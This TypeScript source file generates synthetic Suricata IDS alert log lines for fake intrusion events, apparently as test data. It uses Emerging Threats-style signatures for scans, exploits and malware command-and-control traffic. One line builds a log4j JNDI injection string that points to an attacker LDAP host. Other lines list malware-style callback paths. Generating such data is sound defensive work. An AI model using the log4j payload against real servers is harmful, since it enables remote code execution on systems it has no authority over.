import type { GenContext } from '../types.ts';
import { ATTACK_URLS, attacker, BAD_DOMAINS, ephemeralPort, eventTime, isoTime, USER_AGENTS, victimIp, VN_OFFSET_MINUTES, webServerIp } from './common.ts';

/**
 * Suricata EVE `alert` lines (formats.md §2) with Emerging Threats style signatures: gid/signature_id/rev,
 * classtype categories, priority 1–3, ET metadata (MITRE ids, signature_severity); `flow_id` is a 64-bit
 * integer written as digits into the JSON text (beyond 2^53); http/dns/tls sub-objects when the rule
 * is about that protocol.
 */

interface Signature {
  sid: number;
  rev: number;
  msg: string;
  category: string;
  severity: 1 | 2 | 3;
  /** inbound: attacker → organisation; outbound: organisation → attacker (C2, policy). */
  direction: 'inbound' | 'outbound';
  proto: 'TCP' | 'UDP';
  ports: readonly number[];
  app?: 'http' | 'dns' | 'tls';
  mitre?: { tactic: string; technique: string };
  sigSeverity: 'Informational' | 'Minor' | 'Major' | 'Critical';
  weight: number;
}

const SIGNATURES: readonly Signature[] = [
  { sid: 2001219, rev: 20, msg: 'ET SCAN Potential SSH Scan', category: 'Attempted Information Leak', severity: 2, direction: 'inbound', proto: 'TCP', ports: [22], mitre: { tactic: 'TA0043', technique: 'T1595' }, sigSeverity: 'Informational', weight: 14 },
  { sid: 2009582, rev: 3, msg: 'ET SCAN NMAP -sS window 1024', category: 'Detection of a Network Scan', severity: 3, direction: 'inbound', proto: 'TCP', ports: [21, 22, 23, 80, 443, 445, 3389, 8080], mitre: { tactic: 'TA0043', technique: 'T1046' }, sigSeverity: 'Informational', weight: 12 },
  { sid: 2010937, rev: 3, msg: 'ET SCAN Suspicious inbound to mySQL port 3306', category: 'Potentially Bad Traffic', severity: 2, direction: 'inbound', proto: 'TCP', ports: [3306], sigSeverity: 'Minor', weight: 8 },
  { sid: 2010935, rev: 3, msg: 'ET SCAN Suspicious inbound to MSSQL port 1433', category: 'Potentially Bad Traffic', severity: 2, direction: 'inbound', proto: 'TCP', ports: [1433], sigSeverity: 'Minor', weight: 6 },
  { sid: 2008578, rev: 9, msg: 'ET SCAN Sipvicious Scan', category: 'Attempted Information Leak', severity: 2, direction: 'inbound', proto: 'UDP', ports: [5060], mitre: { tactic: 'TA0043', technique: 'T1595' }, sigSeverity: 'Minor', weight: 3 },
  { sid: 2034647, rev: 2, msg: 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)', category: 'Attempted Administrator Privilege Gain', severity: 1, direction: 'inbound', proto: 'TCP', ports: [80, 443, 8080], app: 'http', mitre: { tactic: 'TA0001', technique: 'T1190' }, sigSeverity: 'Critical', weight: 4 },
  { sid: 2024043, rev: 4, msg: 'ET EXPLOIT Possible Apache Struts OGNL Expression Injection (CVE-2017-5638)', category: 'Attempted Administrator Privilege Gain', severity: 1, direction: 'inbound', proto: 'TCP', ports: [80, 8080], app: 'http', mitre: { tactic: 'TA0001', technique: 'T1190' }, sigSeverity: 'Major', weight: 2 },
  { sid: 2006446, rev: 13, msg: 'ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT', category: 'Web Application Attack', severity: 1, direction: 'inbound', proto: 'TCP', ports: [80, 443], app: 'http', mitre: { tactic: 'TA0001', technique: 'T1190' }, sigSeverity: 'Major', weight: 7 },
  { sid: 2019231, rev: 5, msg: 'ET WEB_SERVER Possible CVE-2014-6271 Attempt in HTTP Headers', category: 'Attempted Administrator Privilege Gain', severity: 1, direction: 'inbound', proto: 'TCP', ports: [80], app: 'http', mitre: { tactic: 'TA0001', technique: 'T1190' }, sigSeverity: 'Major', weight: 2 },
  { sid: 2100498, rev: 7, msg: 'GPL ATTACK_RESPONSE id check returned root', category: 'Potentially Bad Traffic', severity: 2, direction: 'outbound', proto: 'TCP', ports: [80], app: 'http', sigSeverity: 'Major', weight: 2 },
  { sid: 2035595, rev: 1, msg: 'ET MALWARE Win32/Emotet CnC Activity (POST) M11', category: 'A Network Trojan was detected', severity: 1, direction: 'outbound', proto: 'TCP', ports: [8080, 443, 7080], app: 'http', mitre: { tactic: 'TA0011', technique: 'T1071' }, sigSeverity: 'Major', weight: 3 },
  { sid: 2033060, rev: 2, msg: 'ET MALWARE Cobalt Strike Beacon Observed', category: 'A Network Trojan was detected', severity: 1, direction: 'outbound', proto: 'TCP', ports: [443], app: 'tls', mitre: { tactic: 'TA0011', technique: 'T1071' }, sigSeverity: 'Critical', weight: 2 },
  { sid: 2027863, rev: 3, msg: 'ET INFO Observed DNS Query to .cloud TLD', category: 'Potentially Bad Traffic', severity: 2, direction: 'outbound', proto: 'UDP', ports: [53], app: 'dns', sigSeverity: 'Informational', weight: 4 },
  { sid: 2013028, rev: 7, msg: 'ET POLICY curl User-Agent Outbound', category: 'Attempted Information Leak', severity: 2, direction: 'outbound', proto: 'TCP', ports: [80], app: 'http', sigSeverity: 'Informational', weight: 3 },
  { sid: 2018959, rev: 4, msg: 'ET POLICY PE EXE or DLL Windows file download HTTP', category: 'Potential Corporate Privacy Violation', severity: 1, direction: 'outbound', proto: 'TCP', ports: [80], app: 'http', sigSeverity: 'Minor', weight: 2 },
];
const WEIGHTED = SIGNATURES.map((s) => [s, s.weight] as const);

/** A 64-bit flow id as digits (15–19 of them): mostly above 2^53, so JSON.parse would round it. */
function flowId(ctx: GenContext): string {
  return ctx.rng.digits(ctx.rng.int(15, 19));
}

function dateSlug(ms: number): string {
  return new Date(ms).toISOString().slice(0, 10).replace(/-/g, '_');
}

export function suricataAlert(ctx: GenContext): string {
  const { rng, victim, reporter } = ctx;
  const sig = rng.weighted(WEIGHTED);
  const ts = eventTime(ctx);
  const outside = attacker(rng);
  const inside = sig.app === 'http' && sig.direction === 'inbound' ? webServerIp(victim) : victimIp(rng, victim);
  const [src, dst] = sig.direction === 'inbound' ? [outside, inside] : [inside, outside];
  const destPort = rng.pick(sig.ports);
  const metadata: Record<string, string[]> = {
    attack_target: [sig.direction === 'inbound' ? 'Server' : 'Client_Endpoint'],
    created_at: [dateSlug(Date.UTC(2015 + (sig.sid % 9), sig.sid % 12, 1 + (sig.sid % 27)))],
    deployment: ['Perimeter'],
    signature_severity: [sig.sigSeverity],
    updated_at: [dateSlug(ctx.now - 86_400_000 * (30 + (sig.sid % 400)))],
  };
  if (sig.mitre) {
    metadata.mitre_tactic_id = [sig.mitre.tactic];
    metadata.mitre_technique_id = [sig.mitre.technique];
  }
  if (rng.chance(0.5)) metadata.hostile = [sig.direction === 'inbound' ? 'src_ip' : 'dest_ip'];
  const blocked = sig.severity === 1 && rng.chance(0.3);
  const rest: Record<string, unknown> = {
    in_iface: rng.pick(['ens192', 'eth1', 'bond0']),
    event_type: 'alert',
    src_ip: src,
    src_port: sig.proto === 'UDP' && destPort === 53 ? rng.int(1024, 65535) : ephemeralPort(rng),
    dest_ip: dst,
    dest_port: destPort,
    proto: sig.proto,
    community_id: `1:${Buffer.from(rng.hex(20), 'hex').toString('base64')}`,
    alert: { action: blocked ? 'blocked' : 'allowed', gid: 1, signature_id: sig.sid, rev: sig.rev, signature: sig.msg, category: sig.category, severity: sig.severity, metadata },
    host: `ids-${reporter.slug}-0${rng.int(1, 2)}`,
  };
  if (sig.app === 'http') {
    const url = sig.sid === 2034647 ? '/api/v1/search?q=${jndi:ldap://' + outside + ':1389/Exploit}' : sig.direction === 'inbound' ? rng.pick(ATTACK_URLS) : rng.pick(['/gate.php', '/dl/update.exe', '/uid/index.html', '/api/report']);
    rest.http = {
      hostname: sig.direction === 'inbound' ? victim.hosts[0] : rng.pick(BAD_DOMAINS),
      url,
      http_user_agent: sig.sid === 2013028 ? 'curl/8.5.0' : rng.pick(USER_AGENTS),
      http_method: sig.sid === 2035595 ? 'POST' : 'GET',
      protocol: 'HTTP/1.1',
      status: rng.pick([200, 200, 403, 404, 500]),
      length: rng.int(0, 20000),
    };
    rest.app_proto = 'http';
  } else if (sig.app === 'dns') {
    rest.dns = { query: [{ type: 'query', id: rng.int(1, 65535), rrname: `${rng.hex(8)}.sync-${rng.int(1, 9)}.cloud`, rrtype: 'A', tx_id: 0 }] };
    rest.app_proto = 'dns';
  } else if (sig.app === 'tls') {
    rest.tls = { sni: rng.pick(BAD_DOMAINS), version: 'TLS 1.2', ja3: { hash: rng.hex(32) }, ja3s: { hash: rng.hex(32) } };
    rest.app_proto = 'tls';
  }
  rest.flow = { pkts_toserver: rng.int(1, 40), pkts_toclient: rng.int(0, 40), bytes_toserver: rng.int(60, 40000), bytes_toclient: rng.int(0, 90000), start: isoTime(ts - rng.int(0, 5000), { offsetMinutes: VN_OFFSET_MINUTES, fraction: 6, colon: false, micro: rng.int(0, 999) }) };
  const head = `{"timestamp":${JSON.stringify(isoTime(ts, { offsetMinutes: VN_OFFSET_MINUTES, fraction: 6, colon: false, micro: rng.int(0, 999) }))},"flow_id":${flowId(ctx)},`;
  return head + JSON.stringify(rest).slice(1);
}
